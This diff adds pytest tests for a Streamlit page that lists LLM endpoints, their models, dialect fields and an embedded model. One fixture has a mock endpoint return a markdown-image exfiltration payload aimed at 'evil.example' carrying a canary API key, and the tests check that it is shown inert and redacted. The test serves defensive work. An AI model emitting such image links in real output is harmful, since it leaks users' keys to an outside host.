@@ -1,0 +1,203 @@
+from __future__ import annotations
+
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pandas as pd
+import pytest
+import streamlit
+from streamlit.testing.v1 import AppTest
+
+from components.contract.chunk import Usage
+from components.embedded.status import Phase
+from components.runs.run import Run
+from components.service import service
+from components.streaming.outcome import Outcome, Status, Timings
+from tests.pages.conftest import new_page, texts
+from tests.streaming.endpoint import Endpoint, document, serve
+from tests.waiting import wait_for
+
+CANARY = "canary-key-9"
+MODELS = [
+    {"id": "alpha", "max_context_length": 4096, "default_model_temperature": 0.3},
+    {"id": "![beta](http://x.y/z)"},
+]
+
+
+@pytest.fixture(autouse=True)
+def _no_earlier_look() -> None:
+    streamlit.cache_resource.clear()
+
+
+@pytest.fixture
+def listing() -> Iterator[Endpoint]:
+    """An endpoint that lists two models."""
+    with serve(document({"data": MODELS})) as server:
+        yield server
+
+
+def dead_url() -> str:
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        return f"http://127.0.0.1:{listener.getsockname()[1]}/v1"
+
+
+def open_endpoints(secrets: dict[str, object] | None = None) -> AppTest:
+    page = new_page()
+    if secrets:
+        page.secrets["endpoints"] = secrets
+    page.switch_page("endpoints.py").run()
+    return page
+
+
+def looked(page: AppTest) -> AppTest:
+    """The page once every endpoint is known; a browser runs its fragments again, here the page is."""
+    wait_for(lambda: "checking" not in texts(page.run()))
+    return page
+
+
+def whole(page: AppTest) -> str:
+    """Everything that is sent to the browser, tables as text."""
+    tables = [table.value.to_string() for table in [*page.dataframe, *page.table]]
+    sent = [str(getattr(element, "proto", "")) for element in page.main]
+    return "\n".join([texts(page), *tables, *sent])
+
+
+def test_several_endpoints_are_shown_with_what_each_says(listing: Endpoint, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("TEMPERA_BASE_URL", listing.base_url)
+    monkeypatch.setenv("TEMPERA_API_KEY", CANARY)
+    monkeypatch.setenv("TEMPERA_DIALECT", "openai")
+    dead = dead_url()
+    with serve(document({"detail": f"![x](http://evil.example/{CANARY}-2)"}, "401 Unauthorized")) as locked:
+        page = open_endpoints(
+            {
+                "locked": {"base_url": locked.base_url, "api_key": f"{CANARY}-2", "dialect": "mistral"},
+                "dead": {"base_url": dead, "api_key": f"{CANARY}-3"},
+            }
+        )
+        looked(page)
+        # A new visit is a look at what is known.
+        looked(page)
+        assert (len(listing.requests), len(locked.requests)) == (1, 1)
+    shown = texts(page)
+    for name in ("**environment**", "**locked**", "**dead**", "**embedded**"):
+        assert name in shown
+    for words in ("answers]", "refuses the key]", "does not answer]", "not running]"):
+        assert words in shown
+    assert f"`{listing.base_url}`" in shown
+    assert f"`{dead}`" in shown
+    plain = [text.value for text in page.text]
+    assert "![x](http://evil.example/***)" in plain
+    assert any("nothing listens there" in text for text in plain)
+    assert "![x]" not in "".join(element.value for element in [*page.markdown, *page.caption])
+    assert CANARY not in whole(page)
+    assert service().model.process_id is None, "the page starts no model"
+
+
+def test_models_stand_in_a_table_with_what_is_not_told_left_out(listing: Endpoint) -> None:
+    page = looked(open_endpoints({"mine": {"base_url": listing.base_url}}))
+    table = page.dataframe[0].value
+    assert table["model"].tolist() == ["alpha", "![beta](http://x.y/z)"]
+    assert table["context length"][0] == 4096
+    assert table["default temperature"][0] == 0.3
+    assert table["context length"][1] is pd.NA
+    assert "no key" in texts(page)
+
+
+def test_a_slow_endpoint_does_not_hold_up_the_page(listing: Endpoint) -> None:
+    go_on = threading.Event()
+
+    def wait(connection: socket.socket, _request: bytes) -> None:
+        go_on.wait(20)
+        connection.sendall(document({"data": []}))
+
+    with serve(wait) as slow:
+        page = open_endpoints({"slow": {"base_url": slow.base_url}, "quick": {"base_url": listing.base_url}})
+        assert "checking" in texts(page)
+        wait_for(lambda: "answers]" in texts(page.run()))
+        assert "checking" in texts(page)
+        assert page.button(key="check_slow").disabled
+        go_on.set()
+        looked(page)
+    assert "It lists no models." in texts(page)
+
+
+def test_check_again_asks_one_endpoint_or_all(listing: Endpoint) -> None:
+    with serve(document({"data": []})) as other:
+        page = looked(open_endpoints({"mine": {"base_url": listing.base_url}, "other": {"base_url": other.base_url}}))
+        page.button(key="check_mine").click()
+        looked(page)
+        assert (len(listing.requests), len(other.requests)) == (2, 1)
+        page.button(key="check_all").click()
+        looked(page)
+        assert (len(listing.requests), len(other.requests)) == (3, 2)
+
+
+def test_what_each_dialect_allows_comes_from_its_profile(listing: Endpoint) -> None:
+    page = looked(open_endpoints({"mine": {"base_url": listing.base_url, "dialect": "openai"}}))
+    fields = page.table[0].value.set_index("field")
+    assert fields.loc["temperature"].tolist() == ["same", "0 to 2", "yes", "endpoint default"]
+    assert fields.loc["random_seed"].tolist() == ["`seed`", "any whole number", "yes", "random"]
+    assert fields.loc["safe_prompt"]["range"] == "no such field"
+    further = page.table[1].value.set_index("further field")
+    assert further.loc["`stop`"]["what it does"] == "The answer ends before any of these texts."
+    assert "Prefix of a last assistant message:] no" in texts(page)
+    assert "when stream_options.include_usage asks for it" in texts(page)
+    beezy = page.table[2].value.set_index("field")
+    assert beezy.loc["safe_prompt"].tolist() == ["same", "true or false", "no", "off"]
+    assert "No body keys beyond these are known." in texts(page)
+
+
+def test_a_failed_embedded_model_says_why_and_starts_again_by_a_click(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("TEMPERA_EMBEDDED_MODEL", str(tmp_path / "absent.gguf"))
+    page = open_endpoints()
+    assert "not running]" in texts(page)
+    page.button(key="start_embedded").click().run()
+    wait_for(lambda: "failed]" in texts(page.run()))
+    assert any("absent.gguf" in text.value for text in page.text)
+    page.run()
+    assert service().model.state.phase is Phase.FAILED, "looking again does not start it"
+    page.button(key="start_embedded").click().run()
+    wait_for(lambda: "failed]" in texts(page.run()))
+
+
+def test_a_restart_of_the_embedded_model_says_what_it_costs_and_gives_a_new_process() -> None:
+    page = open_endpoints()
+    assert "**no runs yet**" in texts(page)
+    page.button(key="start_embedded").click().run()
+    wait_for(lambda: "ready]" in texts(looked(page)) and len(page.dataframe), 60)
+    assert page.dataframe[0].value["context length"].tolist() == [2048]
+    assert "**2,048 tokens**" in texts(page)
+    first = service().model.process_id
+    restart = page.button(key="restart_embedded")
+    assert "Runs that are going on there end." in restart.help
+    restart.click().run()
+    wait_for(lambda: "ready]" in texts(looked(page)), 60)
+    assert service().model.process_id not in (first, None)
+    address = service().model.address
+    assert address.api_key not in whole(page)
+
+
+def test_the_speed_of_the_embedded_model_is_the_median_of_its_recent_runs() -> None:
+    running = Run(endpoint="embedded", dialect="beezy", model="m", request_body=b"{}", streaming=True)
+    service().log.begin(running)
+    for endpoint, rate in (("embedded", 10), ("embedded", 20), ("embedded", 60), ("mine", 500), ("mine", 600)):
+        run = Run(endpoint=endpoint, dialect="beezy", model="m", request_body=b"{}", streaming=True)
+        service().log.begin(run)
+        timings = Timings(ttft_ms=0.0, last_token_ms=1000.0)
+        run.finish(Outcome(Status.OK, usage=Usage(1, rate + 1, rate + 2), timings=timings, http_status=200))
+        service().log.end(run)
+    wait_for(lambda: "**20.0 tokens/s**" in texts(open_endpoints()))
+
+
+def test_what_to_copy_names_the_dialect_and_there_is_no_field_for_a_key() -> None:
+    page = open_endpoints()
+    page.button_group(key="new_dialect").set_value("mistral").run()
+    file, environment = (code.value for code in page.code)
+    assert '[endpoints.mine]\nbase_url = "https://api.mistral.ai/v1"\ndialect = "mistral"\napi_key = ' in file
+    assert "export TEMPERA_DIALECT=mistral\n" in environment
+    assert "A key goes to its own origin only" in texts(page)
+    assert len(page.text_input) == len(page.text_area) == 0
